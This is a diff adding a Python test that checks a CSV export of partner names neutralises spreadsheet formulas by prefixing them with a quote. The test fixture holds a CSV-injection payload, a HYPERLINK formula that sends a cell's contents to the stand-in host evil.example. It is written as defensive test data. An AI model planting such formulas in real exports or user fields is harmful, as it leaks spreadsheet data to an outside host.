@@ -129,3 +129,11 @@ def test_audit_bad_input_is_400_naming_the_field(login, pair, auditor):
                                            "attribute": "gender", "start": "2026-06", "end": "2026-01"})
     assert response.status_code == 400 and "The last month comes after the first." in response.content.decode()
     assert not AuditRun.objects.exists()
+
+
+def test_partner_names_reach_the_csv_as_text_not_formulas(login, pair, data):
+    pair.ops.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    pair.ops.save()
+    rebuild_facts(NOW)
+    rows = _rows(login(pair.bea).get(PARTNERS + "?format=csv"))
+    assert rows[1][0] == "'" + pair.ops.name
